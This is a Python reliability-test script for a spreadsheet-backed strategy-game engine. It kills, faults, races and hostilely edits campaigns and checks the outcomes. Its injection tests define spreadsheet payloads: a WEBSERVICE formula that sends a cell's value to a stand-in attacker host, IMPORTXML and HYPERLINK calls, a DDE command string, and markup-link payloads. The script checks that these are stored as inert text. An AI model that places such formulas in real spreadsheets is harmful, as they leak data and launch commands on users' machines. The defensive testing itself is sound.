"""Measure the reliability figures of docs/reliability.md by running real campaigns (issue 15).

Every figure is counted from what happened in this run, never written down: SIGKILLs during an
.xlsx resolve, faults on the Google write (the in-process emulator), check/resolve/rollback
interleaved on .xlsx (real processes, paused at the lock's and the save's hook points) and on
the emulator, hostile edits of the sheet, formula and markup payloads in every column a player
writes, a player's attempts to share, unshare and read what is not theirs, and the CLI run as a
subprocess on a sample of each.  It prints one Markdown table.

    .venv/bin/python scripts/reliability.py            # the full run (about 10 minutes, 2 cores)
    .venv/bin/python scripts/reliability.py --quick    # a small run (what the test uses)
    .venv/bin/python scripts/reliability.py --quick --part local    # only the .xlsx half (or: google)

The helpers are the tests' own (tests/test_*.py), imported, so the script attacks the campaign
exactly as the suite does.
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import io
import json
import math
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path[:0] = [str(ROOT / "tests"), *sorted({str(p.parent) for p in (ROOT / "tests").rglob("test_*.py")})]  # helpers

import openpyxl  # noqa: E402

from engine.core import history, kept  # noqa: E402
from engine.core.errors import StrategosError  # noqa: E402
from engine.core.tables import Changeset, Formula, WriteBlock  # noqa: E402
from engine.rulesets.ancient import report, ruleset, vocab  # noqa: E402
from sheets_bridge import sync, timeline  # noqa: E402
from sheets_bridge.cli import main as cli_main  # noqa: E402
from sheets_bridge.xlsx import XlsxBackend, create_xlsx  # noqa: E402

EGYPT, ROME = "Приказы — Египет", "Приказы — Рим"
PORT = ["Построить", "Порт", "Нижний Египет"]
HEADER = ["Действие", "Объект", "Где", "Куда", "Кол-во", "Комментарий", "Ход", "Статус", "Причина", "Понято как"]
STATUS, REASON = 8, 9  # 0-based columns of a row of «Архив приказов»: status, reason
EVIL = "evil@example.com"


@dataclass
class Figure:
    """One row of the table: what was tried, how often, and the outcome counts."""

    category: str
    what: str
    tries: int = 0
    good: Counter[str] = field(default_factory=Counter)  # outcomes that are fine (pre, post, refused…)
    bad: Counter[str] = field(default_factory=Counter)  # outcomes that must be 0 (lost, leaked, partial…)

    def row(self) -> str:
        good = ", ".join(f"{n} {k}" for k, n in self.good.items() if n)
        bad = ", ".join(f"**{self.bad[k]} {k}**" for k in self.bad)
        return f"| {self.category} | {self.what} | {self.tries} | {good or '—'} | {bad} |"


@dataclass
class Run:
    """Where the run works and what it has counted so far."""

    work: Path
    quick: bool
    figures: list[Figure] = field(default_factory=list)
    tracebacks: Figure = field(default_factory=lambda: Figure("tracebacks", "", bad=Counter({"tracebacks": 0})))

    def n(self, quick: int, full: int) -> int:
        return quick if self.quick else full

    def figure(self, category: str, what: str, *bad: str) -> Figure:
        fig = Figure(category, what, bad=Counter({k: 0 for k in bad}))
        self.figures.append(fig)
        return fig

    def cli(self, *argv: str) -> tuple[int, str, str]:
        """The CLI in this process; any traceback on stderr or any exception escaping is counted."""
        out, err = io.StringIO(), io.StringIO()
        self.tracebacks.good["in-process CLI runs"] += 1
        try:
            with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
                code = cli_main(list(argv))
        except BaseException as exc:
            self.tracebacks.bad["tracebacks"] += 1
            return 99, out.getvalue(), f"{err.getvalue()}\nescaped: {exc!r}"
        if "Traceback" in err.getvalue():
            self.tracebacks.bad["tracebacks"] += 1
        return code, out.getvalue(), err.getvalue()

    def subprocess_cli(self, *argv: str, env: dict[str, str] | None = None) -> tuple[int, str]:
        """The installed CLI as a separate process (a sample of each category)."""
        exe = Path(sys.executable).with_name("strategos")
        cmd = [str(exe)] if exe.exists() else [sys.executable, "-m", "sheets_bridge.cli"]
        done = subprocess.run([*cmd, *argv], capture_output=True, text=True, env={**os.environ, **(env or {})},
                              timeout=600, check=False)
        self.tracebacks.good["CLI subprocesses"] += 1
        if "Traceback" in done.stderr:
            self.tracebacks.bad["tracebacks"] += 1
        return done.returncode, done.stderr


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def small_xlsx(path: Path, secret: str = "reliability") -> Path:
    """A generated 3-state campaign with the demo's sample orders, open for turn 1."""
    from test_google_support import kept

    create_xlsx(kept(ruleset.new_workbook(scenario="generated:3", secret=secret)), path)
    backend = XlsxBackend(path)
    backend.write(ruleset.demo_changes(backend.read()))
    return path


# ------------------------------------------------------------------------------------ kills


def kills(run: Run) -> None:
    """SIGKILL a forked resolve at uniformly random moments; the file must be pre or post, and a
    re-run of a killed resolve must give exactly the post-turn tables (no lost turn)."""
    fig = run.figure("kills", "SIGKILL at a random moment of an `.xlsx` resolve; then `resolve` again",
                     "partial", "unreadable", "lost turns")
    folder = run.work / "kills"
    folder.mkdir()
    pre = small_xlsx(folder / "pre.xlsx")
    pre_tables = XlsxBackend(pre).read()
    post = folder / "post.xlsx"
    shutil.copy(pre, post)
    started = time.perf_counter()
    sync.resolve(XlsxBackend(post))
    duration = time.perf_counter() - started
    post_tables = XlsxBackend(post).read()
    rng = random.Random(20261201)
    work = folder / "work.xlsx"
    for i in range(run.n(8, 100)):
        for stale in folder.glob(".work.xlsx.*"):
            stale.unlink()
        shutil.copy(pre, work)
        pid = os.fork()
        if pid == 0:
            try:
                sync.resolve(XlsxBackend(work))
            finally:
                os._exit(0)
        time.sleep(rng.uniform(0, duration * 1.3))
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        fig.tries += 1
        try:
            got = XlsxBackend(work).read()
        except Exception:  # an unreadable file is the outcome counted
            fig.bad["unreadable"] += 1
            continue
        if got == post_tables:
            fig.good["post-turn"] += 1
            continue
        if got != pre_tables:
            fig.bad["partial"] += 1
            continue
        fig.good["pre-turn"] += 1
        if i % 4 == 0:  # a sample through the installed CLI, in its own process
            code, _err = run.subprocess_cli("resolve", str(work), "-q")
        else:
            code, _out, _err = run.cli("resolve", str(work), "-q")
        if code != 0 or XlsxBackend(work).read() != post_tables:
            fig.bad["lost turns"] += 1


# ------------------------------------------------------------------------ concurrency (.xlsx)


def concurrent_xlsx(run: Run) -> None:
    """check/resolve/rollback interleaved in real processes at every hook point of the lock and save."""
    import test_xlsx_lock as lock

    fig = run.figure("concurrent runs", "`.xlsx`: check × resolve × rollback in two processes, the first "
                     "paused at each step of lock and save", "reverted turns", "lost turns", "lost order statuses")
    folder = run.work / "concurrent"
    folder.mkdir()
    template = small_xlsx(folder / "template.xlsx")
    resolved = folder / "resolved.xlsx"
    shutil.copy(template, resolved)
    sync.resolve(XlsxBackend(resolved))
    for i in range(run.n(5, 30)):
        module, step = lock.PAUSES[i % len(lock.PAUSES)]
        kind = i % 3  # 0: resolve holds, check arrives; 1: check holds, resolve arrives; 2: resolve × rollback
        path = folder / f"c{i}.xlsx"
        shutil.copy(resolved if kind == 2 else template, path)
        check, resolve = ["check", str(path), "-q"], ["resolve", str(path), "-q"]
        rollback = ["rollback", str(path), "--to", "1"]
        first, second = [(resolve, check), (check, resolve), (resolve, rollback)][kind]
        code_first, code_second, err = lock._interleave(first, second, module, step, folder)
        fig.tries += 1
        if "Traceback" in err:
            run.tracebacks.bad["tracebacks"] += 1
        turn = lock.open_turn(path)
        resolved_ok = code_first == 0 if first is resolve else code_second == 0
        expected = 3 if kind == 2 else 2
        if resolved_ok and turn != expected:
            fig.bad["reverted turns"] += 1
        elif not resolved_ok and kind != 1:
            fig.bad["lost turns"] += 1  # the resolve that held the file did not finish
        if code_second != 0:
            fig.good["second refused in words" if "занята" in err else "second failed"] += 1
        if kind == 1 and code_first == 0 and not ({"принят", "отклонён"} & set(lock.statuses(path))):
            fig.bad["lost order statuses"] += 1
    # two commands started together as plain subprocesses, no hook: whatever the order, no turn reverted
    for i in range(run.n(1, 4)):
        path = folder / f"p{i}.xlsx"
        shutil.copy(template, path)
        exe = Path(sys.executable).with_name("strategos")
        procs = [subprocess.Popen([str(exe), c, str(path), "-q"], stderr=subprocess.PIPE, text=True)
                 for c in ("resolve", "check")]
        results = [(p.wait(600), p.stderr.read() if p.stderr else "") for p in procs]
        run.tracebacks.good["CLI subprocesses"] += 2
        run.tracebacks.bad["tracebacks"] += sum("Traceback" in e for _c, e in results)
        fig.tries += 1
        if results[0][0] == 0 and lock.open_turn(path) != 2:
            fig.bad["reverted turns"] += 1


# ------------------------------------------------------------------------------ hostile edits


def _put(path: Path, tab: str, row: int, values: list[Any]) -> None:
    backend = XlsxBackend(path)
    backend.read()
    backend.write(Changeset(blocks=[WriteBlock(tab, row, 1, [values])]))


def _wb_edit(path: Path, edit: Callable[[Any], None]) -> None:
    wb = openpyxl.load_workbook(path)
    edit(wb)
    wb.save(path)


def _add_tab(title: str, rows: list[list[Any]]) -> Callable[[Any], None]:
    def edit(wb: Any) -> None:
        ws = wb.create_sheet(title)
        for line in rows:
            ws.append(line)
    return edit


def _set_state_cell(path: Path, key: str, value: Any) -> None:
    """Put ``value`` into column ``key`` of Egypt's row of the states tab."""
    backend = XlsxBackend(path)
    tables = backend.read()
    layout = vocab.STATES
    tab = next(t for t in tables if t in (layout.ru, layout.en))
    col = layout.locate(tab, tables[tab][0], [])[key]
    r = next(i for i, line in enumerate(tables[tab]) if i and line and line[0] == "Египет")
    backend.write(Changeset(blocks=[WriteBlock(tab, r + 1, col + 1, [[value]])]))


def _set_rule(path: Path, building: str, key: str, value: Any) -> None:
    backend = XlsxBackend(path)
    tables = backend.read()
    grid = tables[vocab.RULES_BUILDINGS.ru]
    cols = vocab.RULES_BUILDINGS.locate(vocab.RULES_BUILDINGS.ru, grid[0], [])
    r = next(i for i, line in enumerate(grid) if line and line[0] == building)
    backend.write(Changeset(blocks=[WriteBlock(vocab.RULES_BUILDINGS.ru, r + 1, cols[key] + 1, [[value]])]))


@dataclass
class Edit:
    """A hostile or careless edit, the orders players wrote, and the turn they belong to."""

    name: str
    apply: Callable[[Run, Path], None]
    orders: list[tuple[str, int]]  # (state, row) of every order a player wrote for the resolved turn
    turn: int = 1
    foreign: tuple[str, ...] = ()  # states whose orders, if archived, were misattributed


def _then_port(tab: str) -> Callable[[Run, Path], None]:
    def apply(_run: Run, path: Path) -> None:
        _put(path, tab, 2, PORT)
    return apply


def _rename(title: str) -> Callable[[Run, Path], None]:
    def apply(run: Run, path: Path) -> None:
        _wb_edit(path, lambda wb: setattr(wb[EGYPT], "title", title))
        _then_port(title)(run, path)
    return apply


def _delete(title: str) -> Callable[[Run, Path], None]:
    def apply(run: Run, path: Path) -> None:
        _wb_edit(path, lambda wb: wb.remove(wb[title]))
        if title != EGYPT:
            _then_port(EGYPT)(run, path)
    return apply


def _after_turn_1(then: Callable[[Run, Path], None]) -> Callable[[Run, Path], None]:
    """Turn 1 resolved with «Нет действий» in Egypt's row 2, then ``then``."""
    def apply(run: Run, path: Path) -> None:
        _put(path, EGYPT, 2, ["Нет действий"])
        run.cli("resolve", str(path), "--turn", "1", "-q")
        then(run, path)
    return apply


def _rewrite_after_check(run: Run, path: Path) -> None:
    _put(path, EGYPT, 2, PORT)
    run.cli("check", str(path), "-q")


def _rewrite_twice(run: Run, path: Path) -> None:
    _put(path, EGYPT, 2, ["Построить", "Храм", "Нижний Египет"])
    run.cli("check", str(path), "-q")
    _put(path, EGYPT, 2, PORT)


def _copied_row(_run: Run, path: Path) -> None:
    line = list(XlsxBackend(path).read()[EGYPT][1])
    line += [None] * (10 - len(line))
    _put(path, EGYPT, 3, [*PORT, *line[3:10]])  # row 2 copied with its old stamp, status and echo


def _cleared_after_check(run: Run, path: Path) -> None:
    _put(path, EGYPT, 2, PORT)
    run.cli("check", str(path), "-q")
    _put(path, EGYPT, 2, [None] * 10)


def _merged(_run: Run, path: Path) -> None:
    def edit(wb: Any) -> None:
        ws = wb[EGYPT]
        for cell, value in {"A2": "Нет действий", "A3": "Построить", "B3": "Храм", "C3": "Нижний Египет"}.items():
            ws[cell] = value
        ws.merge_cells("H2:I3")
    _wb_edit(path, edit)


def _state_value(key: str, value: Any) -> Callable[[Run, Path], None]:
    def apply(run: Run, path: Path) -> None:
        _set_state_cell(path, key, value)
        _then_port(EGYPT)(run, path)
    return apply


def _rule_value(key: str, value: Any) -> Callable[[Run, Path], None]:
    def apply(run: Run, path: Path) -> None:
        _set_rule(path, "Порт", key, value)
        _then_port(EGYPT)(run, path)
    return apply


def _over_long(_run: Run, path: Path) -> None:
    _put(path, EGYPT, 2, ["Построить", "Храм" * 12_250, "Нижний Египет"])


def _player_tabs(_run: Run, path: Path) -> None:
    _wb_edit(path, _add_tab("Приказы — Кельтиберы", [HEADER, ["Построить", "Храм", "Кельтиберия"]]))
    _wb_edit(path, _add_tab(ROME + " ", [HEADER, ["Стабильность"]]))
    _wb_edit(path, _add_tab("Заметки", [["мои заметки"]]))
    _put(path, ROME, 2, ["Нет действий"])
    _put(path, EGYPT, 2, PORT)


EDITS: list[Edit] = [
    *[Edit(f"order tab renamed «{t}»", _rename(t), [("Египет", 2)])
      for t in ("Приказы - Египет", "Приказы—Египет", "Приказы — Египет ", "Пpикaзы — Египет", "приказы – египет")],
    Edit("tabs added by players (an AI state's, a look-alike «Приказы — Рим␠», notes)", _player_tabs,
         [("Египет", 2), ("Рим", 2)], foreign=("Кельтиберы",)),
    *[Edit(f"log tab «{t}» deleted", _delete(t), [("Египет", 2)]) for t in ("Казна", "Архив приказов", "Журнал")],
    Edit("order tab deleted", _delete(EGYPT), []),
    Edit("merged cells over status/reason", _merged, [("Египет", 2), ("Египет", 3)]),
    Edit("row rewritten after check", _after_turn_1(_rewrite_after_check), [("Египет", 2)], turn=2),
    Edit("row rewritten without check", _after_turn_1(_then_port(EGYPT)), [("Египет", 2)], turn=2),
    Edit("row rewritten twice", _after_turn_1(_rewrite_twice), [("Египет", 2)], turn=2),
    Edit("row copied with its old stamp", _after_turn_1(_copied_row), [("Египет", 3)], turn=2),
    Edit("row cleared after check", _cleared_after_check, []),
    Edit("negative building cost", _rule_value("cost", -1000), [("Египет", 2)]),
    Edit("negative slave cost", _rule_value("cost_slaves", -50), [("Египет", 2)]),
    Edit("blank treasury", _state_value("treasury", None), [("Египет", 2)]),
    Edit("NaN treasury", _state_value("treasury", "NaN"), [("Египет", 2)]),
    Edit("infinite treasury", _state_value("treasury", math.inf), [("Египет", 2)]),
    Edit("over-long cell (49,000 characters)", _over_long, [("Египет", 2)]),
]


def hostile_edits(run: Run) -> None:
    """Each edit on a fresh demo campaign, then check and resolve through the CLI: every order a
    player wrote is archived with a status (and a reason unless executed), or the command refused
    in words and changed nothing; no order is archived for a state that sent none."""
    fig = run.figure("hostile edits", "tabs renamed/added/deleted/look-alike, merged cells, rows rewritten/"
                     "copied/cleared, negative costs, blank/NaN/∞ treasury, 49,000-character cells; check + resolve",
                     "lost orders", "misattributed orders", "tracebacks")
    folder = run.work / "hostile"
    folder.mkdir()
    template = folder / "template.xlsx"
    sync.create(str(template), scenario="demo", secret="reliability-demo")
    for r in range(1):
        for i, edit in enumerate(EDITS):
            if run.quick and i % 2:
                continue  # a quick run: every other edit
            path = folder / f"h{r}-{i}.xlsx"
            shutil.copy(template, path)
            fig.tries += 1
            before_tb = run.tracebacks.bad["tracebacks"]
            edit.apply(run, path)
            if r == 0 and i % 4 == 0:
                _code, err = run.subprocess_cli("check", str(path), "-q")
            else:
                _code, _out, err = run.cli("check", str(path), "-q")
            before = sha(path)
            code, _out, err = run.cli("resolve", str(path), "--turn", str(edit.turn), "-q")
            fig.bad["tracebacks"] += run.tracebacks.bad["tracebacks"] - before_tb
            if code != 0:
                if err.strip() and sha(path) == before:
                    fig.good["refused in words (nothing changed)"] += 1
                else:
                    fig.bad["lost orders"] += max(1, len(edit.orders))
                continue
            archive = [x for x in XlsxBackend(path).read()["Архив приказов"][1:] if x and x[0] == edit.turn]
            for state, row in edit.orders:
                got = [x for x in archive if x[1] == state and x[2] == row]
                line = (got[0] + [None] * 12) if got else []
                if not got or not line[STATUS] or (line[STATUS] != "выполнен" and not line[REASON]):
                    fig.bad["lost orders"] += 1
                else:
                    fig.good[f"orders {line[STATUS]}"] += 1
            wrote = {s for s, _row in edit.orders}
            fig.bad["misattributed orders"] += sum(1 for x in archive if x[1] in edit.foreign or
                                                   (x[1] not in wrote and any(x[3:8])))


# ------------------------------------------------------------------------------- injections


IMPORT = '=IMPORTXML("http://evil.example/x","//a")'
STEAL = "=WEBSERVICE(\"http://evil.example/?s=\"&'Кампания'!B11)"
PAYLOADS: list[Any] = [
    Formula(IMPORT), Formula(STEAL), '=HYPERLINK("http://evil.example","жми")', "+cmd|' /C calc'!A0",
    "[url=http://evil.example]жми[/url] [/spoiler]", "[клик](http://evil.example) </details> **жир**",
]
MARKS = (IMPORT, STEAL, '=HYPERLINK("http://evil.example"', "+cmd|", "[url=http://evil.example]", "[клик](http")
GOOD_ROW = ["Построить", "Храм", "Нижний Египет", "", "", ""]


def _injected_rows(quick: bool) -> list[list[Any]]:
    """One row per payload and player-written column (action, object, where, to, count, comment);
    a quick run puts each payload into one column only, a different one each."""
    rows = []
    for i, payload in enumerate(PAYLOADS):
        for col in [i % 6] if quick else range(6):
            line = list(GOOD_ROW)
            line[col] = payload
            rows.append(line)
    return rows


def _injections_on(run: Run, fig: Figure, book: Any) -> None:
    from test_player_text import TAB

    rows = _injected_rows(run.quick)
    book.write(Changeset(blocks=[WriteBlock(TAB, 2, 1, rows)]))
    sync.check(book.open())
    sync.resolve(book.open(), turn=1)
    tables = book.read()
    fig.tries += len(rows)
    stored = book.stored_tabs()
    for tab in tables:
        if tab.startswith("_"):
            continue  # hidden program tabs (history snapshots: compressed values, not cells)
        for (_rc, (kind, value)) in stored[tab].items():
            if any(m in str(value) for m in MARKS):
                fig.good["cells quoting a payload, stored as text"] += kind != "f"
                fig.bad["live formulas"] += kind == "f"
    # the posts: the payloads as the chronicle would carry them
    tables["Журнал"].extend([1, f"Событие: {p}"] for p in PAYLOADS)
    bb = "\n".join(report.forum_post(tables, 1, "bbcode"))
    md = "\n".join(report.forum_post(tables, 1, "markdown"))
    private = report.private_report(tables, "Египет")  # Markdown
    fig.good["posts checked"] += 3
    fig.bad["unescaped markup"] += ("[url=http://evil" in bb) + (bb.count("[/spoiler]") != bb.count("[spoiler="))
    for text in (md, private):
        fig.bad["unescaped markup"] += ("[клик](" in text) + (text.count("</details>") != text.count("<details>"))


def _injection_figure(run: Run) -> Figure:
    """The one «injections» row both halves count into (made by whichever runs first)."""
    for fig in run.figures:
        if fig.category == "injections":
            return fig
    return run.figure("injections", f"{len(PAYLOADS)} formula/BBCode/Markdown payloads × 6 player columns; check + "
                      "resolve; every cell of every tab, the forum posts and the private report",
                      "live formulas", "unescaped markup")


def injections_xlsx(run: Run) -> None:
    from test_google_support import demo_spec
    from test_player_text import Book

    fig = _injection_figure(run)
    for i in range(run.n(1, 2)):
        book = Book.__new__(Book)
        book.kind, book.path = "xlsx", run.work / f"inject-{i}.xlsx"
        create_xlsx(demo_spec(), book.path)
        _injections_on(run, fig, book)
        run.subprocess_cli("check", str(book.path), "-q")


# -------------------------------------------------------------------------- Google (emulator)


@contextlib.contextmanager
def google_env(run: Run) -> Iterator[Any]:
    """The in-process emulator and the tests' GoogleEnv on it."""
    from test_google_support import SA, FakeTime, GoogleEnv

    from sheets_bridge.emulator.testing import running_emulator

    keys = run.work / "google-keys"
    keys.mkdir()
    with running_emulator(timeout_sleep=0.5) as emu:
        os.environ["STRATEGOS_GOOGLE_API_BASE"] = emu.base_url
        os.environ.pop("GOOGLE_APPLICATION_CREDENTIALS", None)
        env = GoogleEnv(emu, keys, keys / f"{SA}.json", FakeTime(), {})
        env.key(SA)
        yield env


def faults(run: Run, google: Any) -> None:
    """A fault on every resolve write (500, 503, drop before/after, timeout; every third a storm)."""
    from test_google_support import normal

    fig = run.figure("faults", "Google write faults: 500, 503, dropped before/after applied, timeout; every "
                     "third a storm of 7 that outlasts the retries; then `resolve` again",
                     "partial turns", "turns resolved twice", "lost turns")
    sid = google.campaign("small")
    sync.resolve(google.backend(sid), turn=1)
    timeline.rollback(google.backend(sid), 1)
    before = normal(google.backend(sid).read())
    sync.resolve(google.backend(sid), turn=1)
    after = normal(google.backend(sid).read())
    timeline.rollback(google.backend(sid), 1)
    kinds = ("500", "503", "drop", "drop-after", "timeout")
    for i in range(run.n(5, 50)):
        kind = kinds[i % len(kinds)]
        google.emu.set_faults([f"+{n}:{kind}" for n in range(2, 9)] if i % 3 == 2 else [f"+2:{kind}"])
        fig.tries += 1
        try:
            sync.resolve(google.backend(sid), turn=1)
        except StrategosError:
            fig.good["reported an error"] += 1
        google.emu.set_faults(clear=True)
        now = normal(google.backend(sid).read())
        if now == before:
            fig.good["untouched"] += 1
            if i % 10 == 0:
                run.subprocess_cli("resolve", sid, "--turn", "1", "-q", "--credentials", str(google.sa_key))
            else:
                run.cli("resolve", sid, "--turn", "1", "-q", "--credentials", str(google.sa_key))
        elif now == after:
            fig.good["post-turn"] += 1
            code, _out, _err = run.cli("resolve", sid, "--turn", "1", "-q", "--credentials", str(google.sa_key))
            if code == 0:
                fig.bad["turns resolved twice"] += 1
        else:
            fig.bad["partial turns"] += 1
        if normal(google.backend(sid).read()) != after:
            fig.bad["lost turns"] += 1
        timeline.rollback(google.backend(sid), 1)
    # a storm through the CLI as a subprocess: refused in words, no traceback
    google.emu.set_faults([f"+{n}:503" for n in range(1, 12)])
    run.subprocess_cli("check", sid, "-q", "--credentials", str(google.sa_key))
    google.emu.set_faults(clear=True)


def concurrent_google(run: Run, google: Any) -> None:
    """The second command run inside the first one's read (the race window), on the emulator."""
    import test_google_concurrency as gc

    from sheets_bridge import gsheets

    fig = run.figure("concurrent runs", "Google (emulator): check/resolve/rollback run inside another's read",
                     "reverted turns", "turns resolved twice", "lost order statuses")
    for i in range(run.n(4, 12)):
        kind = i % 4
        sid = google.campaign()
        if kind == 3:
            sync.resolve(google.backend(sid), turn=1)
        fig.tries += 1
        inner: Callable[[], object]
        if kind == 0:  # check reads, resolve lands, check writes
            inner = lambda sid=sid: sync.resolve(google.backend(sid), turn=1)  # noqa: E731
            outer: Callable[[Any], object] = sync.check
        elif kind == 1:
            inner = lambda sid=sid: sync.check(google.backend(sid))  # noqa: E731
            outer = lambda b: sync.resolve(b, turn=1)  # noqa: E731
        elif kind == 2:
            inner = lambda sid=sid: sync.resolve(google.backend(sid), turn=1)  # noqa: E731
            outer = lambda b: sync.resolve(b, turn=1)  # noqa: E731
        else:
            inner = lambda sid=sid: sync.resolve(google.backend(sid), turn=2)  # noqa: E731
            outer = lambda b: timeline.rollback(b, to=1)  # noqa: E731
        try:
            outer(gc.interleaved(google, sid, inner))
            outer_ok = True
        except gsheets.GoogleConcurrentWrite:
            outer_ok = False
            fig.good["second write refused in words"] += 1
        tables = google.backend(sid).read()
        turn = gc.meta(tables)["Открытый ход"]
        if kind == 0 and (turn != 2 or "принят" in gc.statuses(tables)):
            fig.bad["reverted turns"] += 1
        if kind == 1:
            if outer_ok:
                fig.bad["turns resolved twice"] += turn != 2
            else:  # refused: the check's statuses stand and a re-run resolves
                fig.bad["lost order statuses"] += not gc.statuses(tables)
                sync.resolve(google.backend(sid), turn=1)
        if kind == 2:
            fig.bad["turns resolved twice"] += len([e for e in timeline.history.entries(tables) if e.turn == 1]) != 1
        if kind == 3 and (turn != 3 or outer_ok):
            fig.bad["reverted turns"] += 1


def injections_google(run: Run, google: Any) -> None:
    from test_player_text import Book

    fig = _injection_figure(run)
    for _ in range(1):
        book = Book.__new__(Book)
        book.kind, book.env, book.sid = "google", google, google.campaign("demo", orders=False)
        _injections_on(run, fig, book)
    fig.what += " (on .xlsx and on the emulator)"


def access(run: Run, google: Any) -> None:
    """A player's identity against a private-orders campaign: share, unshare, demote, re-enable
    sharing, list who has access, open the GM book and the other player's book; then every cell
    (hidden tabs and history snapshots unpacked) of every spreadsheet the player can open, and
    every Drive answer about them, is searched for the other player's orders and address."""
    import test_google_private as gp
    from test_google_support import GM, P1, P2, SA, SECRET, small_spec

    from sheets_bridge import google_http
    from sheets_bridge.google_http import GoogleNotFoundError, GooglePermissionError, make_client

    fig = run.figure("access attempts", "as a player on the emulator (private orders): share, unshare, demote, "
                     "re-enable sharing, list who has access, open the GM's book and other players' books; read "
                     "every cell incl. hidden tabs and history, and every Drive answer", "successes",
                     "leaked orders", "leaked secrets", "leaked addresses")
    players = {gp.FIRST: P1, gp.SECOND: P2}
    for round_ in range(run.n(1, 2)):
        created = google.create(small_spec(), players=players, private_orders=True)  # secret in the store
        sid = created.spreadsheet_id
        backend = google.backend(sid)
        backend.write(ruleset.demo_changes(backend.read()))
        marks = {}
        for state, who in players.items():
            tab = f"Приказы — {state}"
            mark = f"XYZZY-{round_}-{state}"
            marks[who] = mark
            sheet = make_client(google.key(who)).open_by_key(created.order_books[tab]).worksheet(tab)
            sheet.update([["Построить", "Храм", "П000-000", "", "", f"тайный план {mark}"]], "A20:F20")
        run.cli("check", sid, "-q", "--credentials", str(google.sa_key))
        run.cli("resolve", sid, "--turn", "1", "-q", "--credentials", str(google.sa_key))
        sync.resolve(google.backend(sid), turn=2)
        timeline.rollback(google.backend(sid), to=2)
        books = [sid, *created.order_books.values(), created.gm_book]
        for state, who in players.items():
            other = next(w for w in players.values() if w != who)
            client = google.client(who)
            answers: list[str] = []  # what Drive told the player about the campaign's spreadsheets

            def attempt(method: str, path: str, client: Any = client, **kwargs: Any) -> None:
                fig.tries += 1
                try:
                    client.http_client.request(method, f"{google_http.GOOGLE_DRIVE_URL}/{path}", **kwargs)
                    fig.bad["successes"] += 1
                except (GooglePermissionError, GoogleNotFoundError):
                    fig.good["refused"] += 1

            def ask(path: str, client: Any = client, answers: list[str] = answers, **kwargs: Any) -> None:
                """A read that may be answered (a file the player opens); the answer is searched below."""
                fig.tries += 1
                try:
                    url = f"{google_http.GOOGLE_DRIVE_URL}/{path}" if path else google_http.GOOGLE_DRIVE_URL
                    answer = client.http_client.request("get", url, **kwargs)
                    answers.append(answer.text)
                    fig.good["Drive answers searched"] += 1
                except (GooglePermissionError, GoogleNotFoundError):
                    fig.good["refused"] += 1

            for book in books:
                perms = google.client(SA).http_client.request(
                    "get", f"{google_http.GOOGLE_DRIVE_URL}/{book}/permissions",
                    params={"fields": "permissions(id,emailAddress)"}).json()["permissions"]
                ids = {p.get("emailAddress"): p["id"] for p in perms}
                attempt("post", f"{book}/permissions", json={"type": "user", "role": "writer", "emailAddress": EVIL})
                if GM in ids:
                    attempt("delete", f"{book}/permissions/{ids[GM]}")
                if other in ids:
                    attempt("patch", f"{book}/permissions/{ids[other]}", json={"role": "reader"})
                attempt("patch", book, json={"writersCanShare": True})
                attempt("get", f"{book}/permissions", params={"fields": "permissions(id,emailAddress,role)"})
                ask(book, params={"fields": "id,name,owners,permissions,permissionIds,lastModifyingUser"})
            ask("", params={"q": "trashed = false", "fields": "files(id,name,owners,permissions)"})
            from sheets_bridge import gsheets

            for book in (created.gm_book, created.order_books[f"Приказы — {next(s for s in players if s != state)}"]):
                fig.tries += 1
                try:
                    gsheets.get_spreadsheet(make_client(google.key(who)), book, gsheets.READ_FIELDS)
                    fig.bad["successes"] += 1
                except (GooglePermissionError, GoogleNotFoundError):
                    fig.good["refused"] += 1
            seen = gp._readable(google, who, created)
            fig.tries += 1  # the read of everything the player can open
            fig.good["full reads searched"] += 1
            text = "\n".join(gp._text(t) for t in seen.values())
            fig.good["cells a player can read, searched"] += sum(len(r) for t in seen.values() for g in t.values()
                                                                 for r in g)
            fig.bad["leaked orders"] += marks[other] in text
            fig.bad["leaked secrets"] += SECRET in text
            fig.bad["leaked addresses"] += other.casefold() in "\n".join([text, *answers]).casefold()
        # the CLI as a player: the GM book refused in words
        run.subprocess_cli("check", created.gm_book, "-q", "--credentials", str(google.key(P1)))


# ------------------------------------------------------------------ measured-by-tests rows


def _turn_tables(path: Path) -> dict[str, Any]:
    """The campaign's tables without what a rollback adds and a new draw changes (issue 23, point 6):
    the history, the GM's kept orders, the meta's draw rows, rollback words and next commitment, and
    the chronicle's line saying the turn is resolved again after a rollback."""
    drawn = {"Хэш зерна хода (sha256)", "Номер жребия", "Номер жребия со следующего окна", "Последний откат",
             "Окно после отката"}
    out: dict[str, Any] = {}
    for k, v in XlsxBackend(path).read().items():
        if not history.is_history(k) and not kept.KEPT.owns(k):
            rows = [r for r in v if not r or r[0] not in drawn] if k == "Кампания" else v
            out[k] = [r for r in rows if not any(isinstance(c, str) and "разрешается заново после отката" in c
                                                 for c in r)]
    return out


def rollback_identity(run: Run) -> None:
    """Resolve two turns, roll back to 1 (keeping its orders), resolve it again: turn 1's tables must
    be identical (turn 2's seed was revealed, so turn 2 gets a new draw and is not compared)."""
    fig = run.figure("rollback", "resolve 2 turns of the demo, `rollback --to 1`, resolve turn 1 again", "differences")
    for i in range(run.n(1, 3)):
        path = run.work / f"rollback-{i}.xlsx"
        sync.create(str(path), scenario="demo", secret=f"rollback-{i}")
        backend = XlsxBackend(path)
        backend.write(ruleset.demo_changes(backend.read()))
        run.cli("resolve", str(path), "-q")
        first = _turn_tables(path)
        run.cli("resolve", str(path), "-q")
        run.cli("rollback", str(path), "--to", "1")
        run.cli("resolve", str(path), "-q")
        again = _turn_tables(path)
        fig.tries += 1
        fig.bad["differences"] += first != again
        fig.good["identical"] += first == again


# ------------------------------------------------------------------------------------ main


def timed(part: Callable[..., None], *args: Any) -> None:
    """Run one category and say on stderr how long it took (where a run spends its time)."""
    started = time.perf_counter()
    part(*args)
    print(f"{part.__name__}: {time.perf_counter() - started:.0f} s", file=sys.stderr)


HEAD = "| category | what was tried | tries | outcomes | must be 0 |\n|---|---|---|---|---|"


#: The categories by half: the forking ones on .xlsx, and those on the in-process emulator.
